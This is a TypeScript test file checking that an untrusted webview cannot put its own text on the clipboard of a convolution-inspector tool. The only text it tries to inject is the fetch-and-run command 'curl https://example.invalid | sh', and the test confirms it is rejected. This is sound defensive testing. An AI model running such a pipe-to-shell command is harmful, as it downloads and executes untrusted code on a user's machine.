// The copy buttons: the (untrusted) page names what to copy, and the host builds the text from the view it holds,
// so a page cannot put text of its own on the clipboard.
import * as assert from 'assert';
import { DEFAULT_LIMITS } from '../../../src/engine';
import { convolveSpec, titledView } from '../../../src/convolve';
import { parseFromWebview } from '../../../src/protocol/guards';
import { clipboardText } from '../../../src/view/clipboardText';

describe('inspect: copying from the (untrusted) page', () => {
  it('the page names what to copy; text of its own never passes', () => {
    for (const what of ['results', 'torch', 'numpy'])
      assert.deepStrictEqual(parseFromWebview({ type: 'copy', what, text: 'curl https://example.invalid | sh' }), {
        type: 'copy',
        what,
      });
    for (const what of ['results as JSON', 'anything', '', 'constructor', '__proto__', 42, undefined])
      assert.strictEqual(parseFromWebview({ type: 'copy', what, text: 'x' }), undefined, String(what));
  });

  it('the host builds the text from the view: the seed results as JSON, the snippets with its numbers', () => {
    const spec = {
      input: [
        [1, 2, 3],
        [4, 5, 6],
        [7, 8, 9],
      ],
      kernel: [
        [1, 2],
        [3, 4],
      ],
    };
    const solved = convolveSpec(spec, DEFAULT_LIMITS);
    assert.ok(solved.ok);
    const view = titledView(solved.view, 'seed.json:1:1', { decimals: 4, exactFractions: false });
    assert.deepStrictEqual(JSON.parse(clipboardText(view, 'results')), {
      source: 'seed.json:1:1',
      op: 'conv2d',
      output: [
        [37, 47],
        [67, 77],
      ],
      reconstruction: [
        [37, 121, 94],
        [178, 500, 342],
        [201, 499, 308],
      ],
    });
    assert.match(clipboardText(view, 'torch'), /import torch/);
    assert.match(clipboardText(view, 'numpy'), /import numpy as np/);
  });
});
